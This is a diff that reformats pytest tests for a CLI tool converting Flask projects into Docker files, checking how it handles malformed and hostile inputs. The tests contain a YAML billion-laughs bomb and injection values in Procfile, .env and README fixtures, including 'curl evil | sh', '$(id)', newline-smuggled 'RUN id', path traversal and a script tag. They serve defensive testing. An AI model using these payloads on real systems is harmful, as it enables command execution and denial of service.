@@ -7,11 +7,19 @@ from pathlib import Path
 
 import pytest
 
-BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9))
+BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
+)
 
 
 def replatform(*arguments: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-c", "from toolkit.cli.main import run; run()", *arguments], capture_output=True, text=True, timeout=60, check=False)
+    return subprocess.run(
+        [sys.executable, "-c", "from toolkit.cli.main import run; run()", *arguments],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
 
 
 def flask(folder: Path) -> Path:
@@ -19,7 +27,9 @@ def flask(folder: Path) -> Path:
     folder.mkdir(parents=True, exist_ok=True)
     (folder / "requirements.txt").write_text("flask==3.0.3\ngunicorn==22.0.0\n")
     (folder / "app.py").write_text("from flask import Flask\napp = Flask(__name__)\n")
-    (folder / "README.md").write_text("# App\n\n```sh\npip install -r requirements.txt\ngunicorn app:app -b 0.0.0.0:8000\n```\n")
+    (folder / "README.md").write_text(
+        "# App\n\n```sh\npip install -r requirements.txt\ngunicorn app:app -b 0.0.0.0:8000\n```\n"
+    )
     return folder
 
 
@@ -53,10 +63,33 @@ def test_readme_of_ten_megabytes(tmp_path: Path) -> None:
     ended_well(replatform("convert", str(source), "--out", str(tmp_path / "out")), 0, 1)
 
 
-@pytest.mark.parametrize("name", ["README.md", "requirements.txt", "package.json", "pom.xml", "docker-compose.yml", ".env.example", "Procfile", "pyproject.toml", "app.py"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "README.md",
+        "requirements.txt",
+        "package.json",
+        "pom.xml",
+        "docker-compose.yml",
+        ".env.example",
+        "Procfile",
+        "pyproject.toml",
+        "app.py",
+    ],
+)
 @pytest.mark.parametrize(
     "content",
-    [bytes(range(256)) * 40, b"\x00" * 1000, b"{" * 20000, b"<" * 20000, b"\xff\xfe" + b"\xd8" * 999, b"- " * 20000, BOMB.encode(), b"$(" * 9000, b"(" * 20000],
+    [
+        bytes(range(256)) * 40,
+        b"\x00" * 1000,
+        b"{" * 20000,
+        b"<" * 20000,
+        b"\xff\xfe" + b"\xd8" * 999,
+        b"- " * 20000,
+        BOMB.encode(),
+        b"$(" * 9000,
+        b"(" * 20000,
+    ],
     ids=["junk", "zeroes", "braces", "angles", "surrogates", "dashes", "bomb", "substitutions", "parentheses"],
 )
 def test_spoiled_files(tmp_path: Path, name: str, content: bytes) -> None:
@@ -107,13 +140,19 @@ def test_output_folder_with_a_link(tmp_path: Path) -> None:
 def test_names_that_would_break_out(tmp_path: Path) -> None:
     source = flask(tmp_path / "src")
     evil = 'web"; RUN curl evil | sh #'
-    (source / "Procfile").write_text(f"{evil}: gunicorn app:app\n../../x: python evil.py\nweb: gunicorn 'app:app\nRUN id'\n")
+    (source / "Procfile").write_text(
+        f"{evil}: gunicorn app:app\n../../x: python evil.py\nweb: gunicorn 'app:app\nRUN id'\n"
+    )
     (source / ".env.example").write_text('A"B=1\nX-Y: 2\n$(id)=3\nGOOD="a\\nRUN id"\nOTHER=${GOOD}`id`\n')
-    (source / "README.md").write_text("# `x`\n\n```sh\nexport EVIL=$'\\n'RUN\\ id\ngunicorn app:app -b 0.0.0.0:8000 --name '\"]\nRUN id'\n```\n\n| `A` | `b]]>|<script>` |\n|--|--|\n| `K` | <script>alert(1)</script> |\n")
+    (source / "README.md").write_text(
+        "# `x`\n\n```sh\nexport EVIL=$'\\n'RUN\\ id\ngunicorn app:app -b 0.0.0.0:8000 --name '\"]\nRUN id'\n```\n\n| `A` | `b]]>|<script>` |\n|--|--|\n| `K` | <script>alert(1)</script> |\n"
+    )
     run = replatform("convert", str(source), "--out", str(tmp_path / "out"))
     ended_well(run, 0, 1, 2)
     for dockerfile in (tmp_path / "out").rglob("Dockerfile"):
-        assert not any(line.strip().startswith("RUN id") or "curl evil" in line for line in dockerfile.read_text().splitlines())
+        assert not any(
+            line.strip().startswith("RUN id") or "curl evil" in line for line in dockerfile.read_text().splitlines()
+        )
 
 
 def test_unreadable_file(tmp_path: Path) -> None:
